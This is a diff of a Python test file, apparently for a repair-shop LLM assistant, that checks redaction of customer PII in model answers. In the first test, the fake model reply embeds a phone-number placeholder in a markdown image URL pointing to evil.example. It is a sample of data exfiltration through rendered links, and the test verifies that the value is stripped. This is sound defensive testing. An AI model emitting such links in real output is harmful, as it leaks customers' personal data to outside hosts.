@@ -224,8 +224,9 @@ async def test_a_model_cannot_smuggle_a_value_into_a_url(
     shop: Shop, llm: fake_llm.FakeChatModel
 ) -> None:
     llm.reply = lambda _messages: (
-        "Phone [[pii:48211:phones]]. ![x](https://evil.example/p.png?a=[[pii:48211:phones]])"
-        " and [[pii:48212:phones]] (not cited)."
+        "[[pii:48211:email]] first. RO 48211 phone [[pii:48211:phones]]."
+        " ![x](https://evil.example/p.png?a=[[pii:48211:phones]])"
+        "\n\nRO 48212 (not cited): [[pii:48212:phones]]."
     )
     async with AsyncTestClient(app=create_app(with_model(shop.settings, llm))) as client:
         admin = await _login(client, shop, "admin")
@@ -238,7 +239,10 @@ async def test_a_model_cannot_smuggle_a_value_into_a_url(
     assert asked.status_code == 201, asked.text
     answer = asked.json()["answer"]
     assert {c["ro_number"] for c in answer["citations"]} == {"48211"}
-    assert answer["content"].startswith(f"Phone {CUSTOMER['phones'][0]}.")
+    # Not before the answer names its RO, never inside a link, never for an uncited RO.
+    assert answer["content"].startswith(
+        f"[redacted] first. RO 48211 phone {CUSTOMER['phones'][0]}."
+    )
     assert "p.png?a=[removed])" in answer["content"]
     assert "520" not in answer["content"]  # RO 48212 is not cited: redacted
 
@@ -246,7 +250,8 @@ async def test_a_model_cannot_smuggle_a_value_into_a_url(
 async def test_a_long_conversation_is_paged_and_each_detail_revealed_once(shop: Shop) -> None:
     fields = ("phones", "email", "customer_name", "address", "vin", "license_plate")
     body = " ".join(
-        f"[[pii:{RO_NUMBERS[i % 3]}:{fields[(i // 3) % len(fields)]}]]" for i in range(50)
+        f"RO {RO_NUMBERS[i % 3]}: [[pii:{RO_NUMBERS[i % 3]}:{fields[(i // 3) % len(fields)]}]]"
+        for i in range(50)
     )
     citations = [{"ro_number": n, "ro_id": None, "line": None} for n in RO_NUMBERS]
     async with AsyncTestClient(app=create_app(shop.settings)) as client:
